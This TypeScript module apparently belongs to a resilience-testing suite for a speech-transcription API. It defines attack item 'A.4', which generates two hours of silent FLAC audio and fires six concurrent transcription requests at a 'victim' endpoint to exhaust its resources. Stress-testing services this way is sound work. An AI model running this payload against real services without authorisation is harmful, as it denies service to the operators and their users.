import { AudioEncoder } from "#service/engine/audio/encoding/audio-encoder.ts";
import { transcriptionForm } from "../../support/service/speech-service.ts";
import type { Attack } from "../attack.ts";

const SAMPLE_RATE_HZ = 8000;
const SECONDS = 7190;
const PIECE_SECONDS = 10;

let file: Uint8Array = new Uint8Array();

export const longFlac: Attack = {
  item: "A.4",
  name: "six FLAC files of two hours of silence",
  async prepare() {
    file = await silence();
  },
  async strike(victim) {
    const send = async (): Promise<void> => {
      const answer = await fetch(new URL("/v1/audio/transcriptions", victim.url), {
        method: "POST",
        headers: { authorization: `Bearer ${victim.key}` },
        body: transcriptionForm(file),
      });
      await answer.arrayBuffer();
    };
    await Promise.allSettled(Array.from({ length: 6 }, send));
  },
};

async function silence(): Promise<Uint8Array> {
  await using encoder = new AudioEncoder();
  const output = await encoder.open("flac", SAMPLE_RATE_HZ);
  const pieces: Uint8Array[] = [];
  const piece = new Float32Array(SAMPLE_RATE_HZ * PIECE_SECONDS);
  for (let at = 0; at < SECONDS; at += PIECE_SECONDS) pieces.push(await output.push(piece));
  pieces.push(await output.end());
  await output.close();
  return Buffer.concat(pieces);
}
